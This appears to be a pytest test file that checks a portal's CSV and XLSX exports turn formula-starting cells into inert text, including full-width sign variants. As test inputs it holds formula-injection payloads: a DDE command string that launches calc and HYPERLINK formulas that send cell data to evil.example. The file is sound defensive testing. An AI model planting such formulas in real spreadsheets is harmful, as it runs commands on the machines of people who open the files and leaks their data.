import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from portal.registry.exports import export_response, inert


@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx",
                                   '=HYPERLINK("http://evil","x")',
                                   # full-width ＝ ＋ － ＠, which Excel reads as the ASCII signs
                                   "\uff1d1+1", "\uff0bSUM(A1)", "\uff0d2+3", "\uff20cmd"])
def test_cells_that_would_start_a_formula_are_made_inert(value):
    assert inert(value) == "'" + value


@pytest.mark.parametrize("value,text", [(None, ""), (-5, "-5"), (2.5, "2.5"), (True, "yes"),
                                        (date(2020, 1, 2), "2020-01-02"), ("Banda", "Banda")])
def test_ordinary_values_are_left_as_they_are(value, text):
    assert inert(value) == text


def test_a_csv_export_streams_utf8_with_a_bom_and_inert_cells(app):
    with app.test_request_context():
        response = export_response("csv", "people list", ["Name", "Note"],
                                   iter([["Zoë", "=cmd|' /C calc'!A0"], ["Ali", "ok"]]))
        body = response.get_data().decode("utf-8")
    assert response.headers["Content-Disposition"] == 'attachment; filename="people-list.csv"'
    assert body.startswith("\ufeffName,Note\r\n")
    assert "Zoë,'=cmd|' /C calc'!A0" in body


def test_an_xlsx_export_keeps_formulas_as_text(app):
    with app.test_request_context():
        response = export_response("xlsx", "people", ["Name", "Note"], [["Ali", "=1+1"], ["Zoë", 3]])
        data = response.get_data()
    sheet = load_workbook(io.BytesIO(data)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows == [["Name", "Note"], ["Ali", "'=1+1"], ["Zoë", "3"]]
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("sign", ["\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_csv_export_makes_a_name_starting_with_a_full_width_formula_sign_inert(
        client, login, country, make_individual, sign):
    name = sign + 'HYPERLINK("http://evil.example/?d="&A1,"Click")'
    make_individual(name, "Banda", location=country["NV1"], birth_date=date(1990, 1, 1))
    login("admin")
    response = client.get("/registry/individuals/export?format=csv&q=banda")
    assert response.status_code == 200
    header, *rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [row[header.index("First name")] for row in rows] == ["'" + name]
